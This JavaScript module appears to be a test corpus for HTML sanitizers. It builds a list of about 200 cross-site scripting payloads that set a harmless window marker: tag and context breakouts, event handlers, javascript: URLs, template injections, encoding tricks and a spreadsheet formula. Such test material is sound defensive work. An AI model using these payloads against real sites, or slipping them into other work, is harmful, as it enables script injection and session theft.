// 200 texts that would run a script on a page that takes texts for HTML, whatever place of the page they come to:
// between tags, in an attribute of either quote, in a script, a style, a comment, a title, a text area, an address.

const RUN = "window.hostile=1";

const leave = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>"];
const act = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<form action="javascript:${RUN}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<style>@import "javascript:${RUN}";</style><img src=x onerror=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
];
const elsewhere = [
  `" onfocus=${RUN} autofocus x="`, `' onfocus=${RUN} autofocus x='`, `\` onfocus=${RUN} autofocus x=\``,
  `" onmouseover=${RUN} style="position:fixed;inset:0" x="`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`, `<%= ${RUN} %>`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script\u00a0>${RUN}</script>`,
  `<img/src=x/onerror=${RUN}>`, `<img src=x onerror=${RUN}//`, `<<img src=x onerror=${RUN}>`, `<script src=//127.0.0.1:9/x.js></script>`,
  `';${RUN};//`, `";${RUN};//`, `</script\n><script\n>${RUN}</script>`, `<!--><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>`, `<base href="//127.0.0.1:9/">`,
  `hx-get="javascript:${RUN}"`, `<div hx-on:load="${RUN}">`, `<template><img src=x onerror=${RUN}></template>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `x<img src=x onerror=${RUN}>`, `=HYPERLINK("javascript:${RUN}")`, `<marquee onstart=${RUN}>`, `<audio src=x onerror=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
];

/** Exactly 200 of them. */
export const HOSTILE = [...leave.flatMap((out) => act.map((tag) => out + tag)), ...elsewhere].slice(0, 200);
